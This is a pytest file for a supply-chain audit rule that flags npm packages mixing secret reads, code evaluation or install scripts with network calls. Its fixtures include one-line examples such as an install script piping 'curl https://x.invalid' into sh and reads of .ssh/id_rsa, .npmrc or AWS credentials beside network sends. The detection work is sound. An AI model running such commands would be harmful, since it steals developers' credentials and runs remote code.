"""Shapes of healthy packages that must stay quiet, then shapes of real attacks that must not."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING, Any

import pytest
from support.subjects import declares, found, package, subject, use

from audit.model.finding import Severity
from audit.model.manifest import Manifest

if TYPE_CHECKING:
    from audit.model.finding import Finding
    from audit.model.package import CapabilityUse

RULE = "suspicious-grant"
SEND = ("builtin:https.request", "network")
ENV = ("global:process.env", "environment")


def env(name: str) -> tuple[str, str]:
    return (f"global:process.env.{name}", "environment")


def script(command: str) -> CapabilityUse:
    return use("script:postinstall", "install", f"package.json:4:4:{command}")


def judged(
    *uses: CapabilityUse, location: str = "node_modules/a", **fields: Any
) -> tuple[Finding, ...]:
    return found(RULE, subject(package(location, *uses, **fields)))


HEALTHY = {
    "a client": [use(*SEND, "a.js:9")],
    "reads a proxy's name": [use(*env("HTTP_PROXY"), "a.js:2"), use(*SEND, "a.js:9")],
    "a proxy by its ending": [use(*env("*_proxy"), "a.js:2"), use(*SEND, "a.js:9")],
    "npm's settings": [use(*env("npm_config_registry"), "a.js:2"), use(*SEND, "a.js:9")],
    "a key that is none": [use(*env("KEYBOARD"), "a.js:2"), use(*SEND, "a.js:9")],
    "the environment elsewhere": [use(*ENV, "env.js:2"), use(*SEND, "http.js:9")],
    "a server": [use(*ENV, "a.js:2"), use("builtin:http.createServer", "network", "a.js:9")],
    "a console on a socket": [use(*ENV, "a.js:2"), use("builtin:net.Socket", "network", "a.js:9")],
    "looks a host up": [use(*ENV, "a.js:2"), use("builtin:dns.lookup", "network", "a.js:9")],
    "a token, no network": [use(*env("NPM_TOKEN"), "a.js:2")],
    "reads a plain file": [
        use("builtin:fs.readFileSync", "filesystem-read", literals=["config.json", "ssh.md"]),
        use(*SEND),
    ],
    "the global object": [
        use("global:Function", "code", 'a.js:3:1:Function("return this")()'),
        use("global:XMLHttpRequest", "network", "a.js:9"),
    ],
    "the global object, and a word in another file": [
        use(
            "global:Function",
            "code",
            'a.js:3:1:Function("return this")()',
            "b.js:7:4:// ===== Function =====",
        ),
        use("global:XMLHttpRequest", "network", "a.js:9"),
    ],
    "the global object by a function of none": [
        use("global:Function", "code", 'a.js:3:1:(function(){}).constructor("return this")()'),
        use(*SEND, "a.js:9"),
    ],
    "code that stands there whole, with brackets in a string": [
        use("global:eval", "code", "a.js:3:1:eval(\"if (f.indexOf('[native code]') > 0) var g = 1\");"),
        use(*SEND, "a.js:9"),
    ],
    "a timer given a name": [
        use("global:setInterval", "code", "a.js:3:1:setInterval(onPing, 10)"), use(*SEND, "a.js:9"),
    ],
    "compiled code, and requests far from it": [
        use("global:process.dlopen", "native", "a.js:14"), use(*SEND, "a.js:900"),
    ],
    "eval alone": [use("global:eval", "code")],
    "encrypts": [use("global:eval", "code"), use("builtin:crypto.createHash")],
    "builds itself": [script("node-gyp rebuild"), use("builtin:child_process.spawn", "process", "lib.js:1")],
    "commands that build": [
        script("prebuild-install || node-gyp rebuild"),
        use("global:fetch", "network", "package.json:4:4:prebuild-install"),
        use("builtin:child_process", "process", "package.json:4:4:node-gyp rebuild"),
    ],
    "says thank you": [script("node thanks.js"), use("builtin:fs.existsSync", "filesystem-read", "thanks.js:1")],
    "a fetch polyfill": [use("write:globalThis.fetch", "primordials", guarded=True)],
    "names on what stands in for fetch": [
        use("write:fetch.Headers", "primordials"), use("write:fetch.default", "primordials"),
    ],
    "classes beside fetch": [
        use("write:fetch.Headers", "primordials", "a.js:2"), use("global:fetch", "network", "a.js:1"),
    ],
    "members of fetch": [use("write:fetch", "primordials", "a.js:2"), use("global:fetch", "network", "a.js:1")],
    "built-ins that are loaded and not used": [
        use("builtin:v8", "code", "a.js:3:1:import 'node:v8';"), use(*SEND, "a.js:9"),
    ],
    "the global object by two words": [
        use("global:Function", "code", 'a.js:3:1:Function("","return this")()'), use(*SEND, "a.js:9"),
    ],
    "sets what a file holds": [
        use(*ENV, "a.js:2:1:process.env[key] = parsed[key];"), use(*SEND, "a.js:9"),
    ],
    "variables of one's own": [
        use(*ENV, "a.js:2:1:process.env).filter(e=>/^debug_/i.test(e)).reduce((e,a)=>{}"),
        use(*SEND, "a.js:9"),
    ],
    "variables of one's own, and one by name beside them": [
        use(*ENV, "a.js:2:1:process.env).filter((key) => { return /^debug_/i.test(key);", "a.js:5:1:process.env[key];"),
        use(*SEND, "a.js:9"),
    ],
    "a runtime that a constant names": [
        use("global:Function", "code", 'a.js:3:1:Function("r","regeneratorRuntime = r")(t)'),
        use("global:WebSocket", "network", "a.js:9"),
    ],
    "code that is written there": [
        use("global:eval", "code", "a.js:3:1:eval(\"require('path').join(__dirname, '..')\")"),
        use("builtin:crypto.createDecipheriv", "none", "a.js:9"),
    ],
    "a test of syntax": [
        use("global:Function", "code", "a.js:3:1:Function('import(\"\")')"), use(*SEND, "a.js:9"),
    ],
    "a worker that loads a file of its own": [
        use("global:importScripts", "code", 'a.js:3:1:importScripts("compat.js", "./b.js");'),
        use(*SEND, "a.js:9"),
    ],
    "which service builds": [use(*env("INPUT_AZURE_STATIC_WEB_APPS_API_TOKEN")), use(*SEND)],
    "tokens that are counted": [use(*env("LOG_TOKENS")), use(*env("MAX_OUTPUT_TOKENS")), use(*SEND)],
    "a constant beside the methods of a connection": [
        use("write:WebSocket.prototype.CLOSED", "primordials", "a.js:9"),
        use("write:WebSocket.prototype.READY_STATE", "primordials", "a.js:9"),
    ],
    "deletes fetch, which confuses a dependency": [
        use("write:globalThis.fetch", "primordials", "a.js:2:1:delete global.fetch;"),
        use("global:fetch", "network", "a.js:1"),
    ],
    "another polyfill": [use("write:Array.prototype.flat", "primordials")],
}  # fmt: skip


@pytest.mark.parametrize("uses", HEALTHY.values(), ids=HEALTHY)
def test_silent(uses: list[CapabilityUse]) -> None:
    assert judged(*uses) == ()


MILDER = {
    "options of a child, given to callers at the end of the file": (
        [use(*ENV, "a.js:9:1:exports.options = options;"), use(*SEND, "a.js:2")],
        "low",
    ),
}  # fmt: skip


@pytest.mark.parametrize(("uses", "severity"), MILDER.values(), ids=MILDER)
def test_parts_of_the_environment_weigh_less(uses: list[CapabilityUse], severity: str) -> None:
    (finding,) = judged(*uses)
    assert finding.severity == severity


WHOLE = {
    "also what begins otherwise": "a.js:2:1:env) { if(k.indexOf(prefix) === 0 || all)",
    "or any": "a.js:2:1:process.env).filter((k) => k.startsWith(prefix) || true);",
    "given to callers as it is sent": "a.js:2:1:exports.send(process.env);",
}


@pytest.mark.parametrize("place", WHOLE.values(), ids=WHOLE)
def test_the_whole_environment_stays_high(place: str) -> None:
    chosen = "a.js:5:1:process.env).filter(e=>/^debug_/i.test(e)).map(f);"
    (finding,) = judged(use(*ENV, place, chosen), use(*SEND, "a.js:9"))
    assert finding.severity == "high"


def test_a_service_may_read_its_own_token() -> None:
    uses = [use(*env("SENTRY_AUTH_TOKEN"), "a.js:2"), use(*SEND, "a.js:9")]
    assert judged(*uses, location="node_modules/@sentry/cli") == ()
    assert judged(*uses, location="node_modules/left-fill-x")
    files = ["~/.aws/credentials"]
    uses = [use("builtin:fs.readFileSync", "filesystem-read", "a.js:4", literals=files), uses[1]]
    assert judged(*uses, location="node_modules/@aws-x/client") == ()
    assert judged(*uses, location="node_modules/left-fill-x")


ATTACKS = {
    "sends the environment": [use(*ENV, "a.js:2"), use(*SEND, "a.js:9")],
    "sends it by fetch": [use(*ENV, "a.js:2"), use("global:fetch", "network", "a.js:9")],
    "sets a variable, and sends all": [
        use(*ENV, "a.js:2:1:process.env[key] = 1;", "a.js:3:1:process.env"), use(*SEND, "a.js:9"),
    ],
    "a variable by its name beside all": [
        use(*ENV, "a.js:2:1:process.env[key]", "a.js:4:1:process.env).map("), use(*SEND, "a.js:9"),
    ],
    "code that has a word for code made": [
        use("global:eval", "code", "a.js:4:1:eval(\"g(atob('eA=='))\")"), use(*SEND, "a.js:9"),
    ],
    "a worker that loads what it is told": [
        use("global:importScripts", "code", "a.js:4:1:importScripts(name)"), use(*SEND, "a.js:9"),
    ],
    "a worker that loads from a host": [
        use("global:importScripts", "code", 'a.js:4:1:importScripts("//x.invalid/a.js")'), use(*SEND, "a.js:9"),
    ],
    "code that makes more code": [
        use("global:eval", "code", "a.js:4:1:eval('f(\\'Function\\')')"), use(*SEND, "a.js:9"),
    ],
    "variables of a service with secrets": [
        use(*ENV, "a.js:2:1:process.env).filter(e=>/^gh_/i.test(e))"), use(*SEND, "a.js:9"),
    ],
    "code, and a constant after it": [
        use("global:eval", "code", 'a.js:4:1:eval(x); eval("return this")'), use(*SEND, "a.js:9"),
    ],
    "all variables, and one service's after it": [
        use(*ENV, 'a.js:2:1:process.env); Object.keys(process.env).filter(k => k.startsWith("ACME_"))'),
        use(*SEND, "a.js:9"),
    ],
    "a service's variables, each sent before": [
        use(*ENV, "a.js:2:1:process.env).filter(k => { send(k); return k.startsWith('ACME_') })"),
        use(*SEND, "a.js:9"),
    ],
    "a report of the process, and its head after it": [
        use("global:process.report", "system", "a.js:2:1:process.report.getReport(); f(g.header)"),
        use(*SEND, "a.js:9"),
    ],
    "a variable by its name, and all in its bundle": [
        use(*ENV, "a.js:2:1:process.env[key]", "a.js:9000:1:Object.keys(process.env)"), use(*SEND, "a.js:9009"),
    ],
    "near on the line of a bundle": [
        use("global:eval", "code", "a.js:1:90000"), use(*SEND, "a.js:1:91500"),
    ],
    "wraps fetch at some distance": [
        use("write:globalThis.fetch", "primordials", "a.js:900"), use("global:fetch", "network", "a.js:2"),
    ],
    "wraps a method of connections": [use("write:WebSocket.prototype.send", "primordials")],
    "beside a long line": [
        use(*ENV, "a.js:6:90"), use(*env("HOME"), "a.js:5:30000"), use(*SEND, "a.js:9:90"),
    ],
    "on one long line": [use(*ENV, "a.js:1:900"), use(*SEND, "a.js:1:1500")],
    "sends a token": [use(*env("NPM_TOKEN"), "a.js:2"), use(*SEND, "a.js:900")],
    "a computed token": [use(*ENV, "a.js:2", literals=["GITHUB_TOKEN"]), use(*SEND, "a.js:900")],
    "a token by its ending": [use(*env("*_TOKEN"), "a.js:2"), use(*SEND, "a.js:9")],
    "a key by its ending": [use(*env("*_KEY"), "a.js:2"), use(*SEND, "a.js:9")],
    "an access key": [use(*env("AWS_ACCESS_KEY_ID"), "a.js:2"), use(*SEND, "a.js:9")],
    "steals .npmrc": [
        use("builtin:fs.readFileSync", "filesystem-read", "a.js:4", literals=["/home/u/.npmrc"]),
        use("builtin:https.get", "network", "a.js:5"),
    ],
    "steals keys over dns": [
        use("builtin:fs.readFileSync", "filesystem-read", "a.js:4", literals=[".ssh/id_rsa"]),
        use("builtin:dns.resolve", "network", "a.js:5"),
    ],
    "runs what it fetched": [use("global:eval", "code", "a.js:4"), use(*SEND, "a.js:9")],
    "a timer given text": [
        use("global:setTimeout", "code", "a.js:3:1:setTimeout('go()', 10)"), use(*SEND, "a.js:9"),
    ],
    "code by what makes functions that wait": [
        use("global:Function", "code", "a.js:3:1:Object.getPrototypeOf(async () => {}).constructor, ['p', x])"),
        use(*SEND, "a.js:9"),
    ],
    "compiled code of what it fetched": [
        use("global:process.dlopen", "native", "a.js:14"), use(*SEND, "a.js:9"),
    ],
    "vm of what it fetched": [use("builtin:vm.runInThisContext", "code", "a.js:4"), use(*SEND, "a.js:9")],
    "runs what it decrypted": [
        use("load:internals", "loader", "a.js:4"), use("builtin:crypto.createDecipheriv", "none", "a.js:9"),
    ],
    "install script downloads": [script("curl https://x.invalid | sh")],
    "install script downloads and runs": [
        script("node setup.js"), use(*SEND, "setup.js:1"), use("builtin:child_process.exec", "process", "setup.js:2"),
    ],
    "install script starts a downloader": [
        script("node ./setup"),
        use("builtin:child_process.exec", "process", "setup.js:2", literals=["curl x.invalid -o x"]),
    ],
    "binding.gyp downloads": [
        use("script:gyp", "install", "binding.gyp:1:1"),
        use("global:fetch", "network", "binding.gyp:3:9:curl -s x.invalid"),
    ],
    "wraps fetch": [use("write:globalThis.fetch", "primordials"), use("global:fetch", "network")],
    "wraps requests": [use("write:XMLHttpRequest.prototype.open", "primordials")],
    "deletes fetch, and sets it": [
        use("write:globalThis.fetch", "primordials", "a.js:2:1:delete global.fetch;", "a.js:3:1:global.fetch = f"),
        use("global:fetch", "network", "a.js:1"),
    ],
    "wraps calls of fetch": [use("write:fetch.call", "primordials")],
    "wraps node's requests": [use("write:builtin:http.request", "primordials")],
}  # fmt: skip


BY_NAME = {
    "compares a variable": "process.env[key] === x",
    "a variable that the caller names": "process.env[options.variable] ?? fallback",
    "the path's own name": "process.env[pathKey()]",
}


@pytest.mark.parametrize("text", BY_NAME.values(), ids=BY_NAME)
def test_a_variable_whose_name_it_is_told_is_less_than_all(text: str) -> None:
    (finding,) = judged(use(*ENV, f"a.js:2:1:{text}"), use(*SEND, "a.js:9"))
    assert finding.severity == "moderate"
    assert "names it is told" in finding.message


@pytest.mark.parametrize("uses", ATTACKS.values(), ids=ATTACKS)
def test_firing(uses: list[CapabilityUse]) -> None:
    (finding,) = judged(*uses)
    assert finding.severity == "high"
    assert finding.evidence


@pytest.mark.parametrize("uses", ATTACKS.values(), ids=ATTACKS)
def test_a_declaration_does_not_make_it_harmless(uses: list[CapabilityUse]) -> None:
    assert judged(*uses, declaration=declares("network", "environment", "code", "install"))


MILD = {
    "far apart on the lines of a bundle": (
        "low",
        [use("global:eval", "code", "a.js:1:90"), use(*SEND, "a.js:2:60000")],
    ),
    "on another of its long lines": (
        "low",
        [use("global:eval", "code", "a.js:1:9000"), use(*SEND, "a.js:20:90")],
    ),
    "a token far away in a bundle": (
        "moderate",
        [use(*env("NPM_TOKEN"), "a.js:2"), use(*SEND, "a.js:9000")],
    ),
    "a token far away on the lines of a bundle": (
        "moderate",
        [use(*env("NPM_TOKEN"), "a.js:1:9"), use(*SEND, "a.js:2:60000")],
    ),
    "with a long line of a bundle between": (
        "low",
        [
            use(*ENV, "a.js:1:90"),
            use(*env("HOME"), "a.js:5:30000"),
            use(*SEND, "a.js:9:90"),
        ],
    ),
    "not so near on the line of a bundle": (
        "low",
        [use("global:eval", "code", "a.js:1:90000"), use(*SEND, "a.js:1:93000")],
    ),
    "stands in for fetch, which another module of the bundle asks": (
        "moderate",
        [
            use("write:globalThis.fetch", "primordials", "a.js:9000"),
            use("global:fetch", "network", "a.js:2"),
        ],
    ),
    "a variable by its name, and all elsewhere in the bundle": (
        "moderate",
        [
            use(*ENV, "a.js:2:1:process.env[key]", "a.js:9000:1:Object.keys(process.env)"),
            use(*SEND, "a.js:9"),
        ],
    ),
    "far apart in a bundle": ("low", [use(*ENV, "a.js:2"), use(*SEND, "a.js:9000")]),
    "a token in another file": (
        "moderate",
        [use(*env("NPM_TOKEN"), "a.js:2"), use(*SEND, "b.js:2")],
    ),
    "unreachable": ("moderate", [use(*ENV, "a.js:2", reachable=False), use(*SEND, "a.js:3")]),
    "install script fetches": ("moderate", [script("node get.js"), use(*SEND, "get.js:1")]),
    "supplies several": (
        "moderate",
        [
            use("write:globalThis.fetch", "primordials"),
            use("write:globalThis.WebSocket", "primordials"),
        ],
    ),
    "supplies fetch": ("moderate", [use("write:globalThis.fetch", "primordials")]),
}


@pytest.mark.parametrize(("severity", "uses"), MILD.values(), ids=MILD)
def test_distance_and_reach_lower_it(severity: str, uses: list[CapabilityUse]) -> None:
    (finding,) = judged(*uses)
    assert finding.severity == severity


def test_the_closest_places_are_shown() -> None:
    uses = [use(*ENV, "z.js:5:1", "a.js:2:1"), use(*SEND, "b.js:1:1", "a.js:4:1")]
    (finding,) = judged(*uses)
    assert [(place.file, place.line) for place in finding.evidence] == [("a.js", 4), ("a.js", 2)]


@pytest.mark.parametrize(
    ("text", "told"), [("require.cache[__filename]", False), ("module._compile(code)", True)]
)
def test_a_module_that_is_forgotten_runs_nothing_decrypted(text: str, *, told: bool) -> None:
    uses = [
        use("load:internals", "loader", f"a.js:4:1:{text}"),
        use("builtin:crypto.createDecipheriv", "none", "a.js:9"),
    ]
    assert any("decrypted" in finding.message for finding in judged(*uses)) == told


def test_what_install_scripts_load_counts() -> None:
    uses = [
        script("node setup.js"),
        use(*SEND, "lib/x.js:1"),
        use("global:eval", "code", "lib/x.js:900"),
    ]
    reached = judged(*uses, install_files=("lib/x.js", "setup.js"))
    assert [finding.message for finding in reached if "at install" in finding.message]
    assert not [finding.message for finding in judged(*uses) if "at install" in finding.message]


@pytest.mark.parametrize(
    ("acting", "severity"),
    [("global:process.exit", Severity.MODERATE), ("builtin:child_process.spawn", Severity.HIGH)],
)
def test_a_program_at_install_that_only_ends_itself_starts_none(
    acting: str, severity: Severity
) -> None:
    uses = [
        script("node setup.js"), use("global:fetch", "network", "setup.js:2"),
        use(acting, "process", "setup.js:4"),
    ]  # fmt: skip
    (finding,) = judged(*uses)
    assert (finding.severity, "at install" in finding.message) == (severity, True)


def test_among_many_files_powers_must_stand_in_one() -> None:
    files = [f"lib/{number}.js" for number in range(50)]
    apart = [use(*SEND, "lib/1.js:1"), use("builtin:child_process.exec", "process", "lib/2.js:1")]
    (mild,) = judged(script("node lib/1"), *apart, install_files=tuple(files))
    assert mild.severity == "moderate"
    near = [apart[0], use("builtin:child_process.exec", "process", "lib/1.js:9")]
    (loud,) = judged(script("node lib/1"), *near, install_files=tuple(files))
    assert loud.severity == "high"


def test_the_hosts_beside_it_are_named() -> None:
    sends = use(*SEND, "a.js:9", literals=["POST", "collect.invalid", "x-token"])
    (finding,) = judged(use(*ENV, "a.js:2"), sends)
    assert finding.message.endswith("talks to the network (collect.invalid)")


def test_a_file_with_secrets_is_read_only_where_its_name_stands() -> None:
    near, far = use("builtin:fs.readFileSync", "filesystem-read", "a.js:2", "b.js:3").evidence
    read = use("builtin:fs.readFileSync", "filesystem-read", literals=["/h/.npmrc", "x.json"])
    places = (near._replace(literals=("x.json",)), far._replace(literals=("/h/.npmrc",)))
    (finding,) = judged(replace(read, evidence=places), use(*SEND, "a.js:9"))
    assert (finding.severity, {place.file for place in finding.evidence}) == (
        "moderate",
        {"a.js", "b.js"},
    )
    (finding,) = judged(replace(read, evidence=places), use(*SEND, "b.js:9"))
    assert (finding.severity, finding.evidence[1]) == ("high", places[1])


def test_places_in_files_that_nothing_loads_weigh_less() -> None:
    def places(*, reachable: bool) -> list[CapabilityUse]:
        uses = [use(*ENV, "test/t.js:2"), use(*SEND, "test/t.js:9")]
        return [
            replace(each, evidence=(each.evidence[0]._replace(reachable=reachable),))
            for each in uses
        ]

    assert [found.severity for found in judged(*places(reachable=True))] == ["high"]
    assert [found.severity for found in judged(*places(reachable=False))] == ["moderate"]


def test_who_is_named_for_standing_in_for_functions_may_replace_fetch() -> None:
    uses = [use("write:globalThis.fetch", "primordials"), use("global:fetch", "network")]
    said = Manifest(name="x", description="mock fetch in tests")
    for name, severity in (("mock-the-fetch", "moderate"), ("mockery-x", "high"), ("x", "high")):
        (finding,) = found(RULE, subject(package(f"node_modules/{name}", *uses, manifest=said)))
        assert finding.severity == severity


def test_only_secrets_and_hosts_of_the_file_that_sends_are_told() -> None:
    (finding,) = judged(
        use(*env("OTHER_TOKEN"), "b.js:2"),
        use(*env("NPM_TOKEN"), "a.js:2"),
        use(
            "global:fetch", "network", "a.js:9", literals=["https://example.com", "collect.invalid"]
        ),
    )
    assert finding.message == "reads secrets (NPM_TOKEN) and talks to the network (collect.invalid)"
